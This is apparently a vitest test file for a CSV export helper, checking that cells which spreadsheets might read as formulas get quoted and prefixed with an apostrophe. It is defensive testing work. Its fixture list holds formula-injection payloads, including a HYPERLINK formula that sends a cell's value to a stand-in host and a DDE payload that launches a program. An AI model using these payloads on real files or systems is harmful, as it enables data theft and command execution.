import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvRow } from "@/lib/format/csv";
import { formulaPieces } from "@/lib/testing/spreadsheet";

// What a hostile token name or User-Agent can put in an export. A spreadsheet in a locale
// whose list separator is ';' splits the comma file at every ';' (and a careless import at
// every ',' or line break), so a formula may start wherever such a split lands, not only at
// the start of a cell.
const HOSTILE = [
  'x;=HYPERLINK("http://evil.example/?"&A1,"click")',
  "x,=1+1",
  "=cmd|' /C calc'!A0",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "x;\n=1",
  "x;  =1",
  'x;"=1',
  'x;""@SUM(A1)',
  "a;b;-2;+3,\t4",
];

describe("CSV rows", () => {
  const file = csvRow(["name", "userAgent"]) + HOSTILE.map((value) => csvRow([value, `Mozilla ${value}`])).join("");

  it("leave no piece starting with a formula character, however the line is split", () => {
    expect(formulaPieces(file)).toEqual([]);
  });

  it("quote every cell", () => {
    expect(csvRow(["id", 365, null, new Date("2026-01-02T03:04:05Z")])).toBe('"id","365","","2026-01-02T03:04:05.000Z"\r\n');
  });

  it("read back in a comma locale as the value, with only an apostrophe before each would-be formula", () => {
    const rows = parse(file, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual(["name", "userAgent"]);
    rows.slice(1).forEach(([name], i) => {
      expect(name!.replace(/'/g, "")).toBe(HOSTILE[i]!.replace(/'/g, ""));
    });
    expect(rows[1]![0]).toBe(`x;'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows[5]![0]).toBe("'-1");
  });

  it("leave harmless text alone", () => {
    expect(csvRow(["Dana Smith, laptop", "2026-01-02", "a-b", 'say "hi"'])).toBe('"Dana Smith, laptop","2026-01-02","a-b","say ""hi"""\r\n');
  });
});
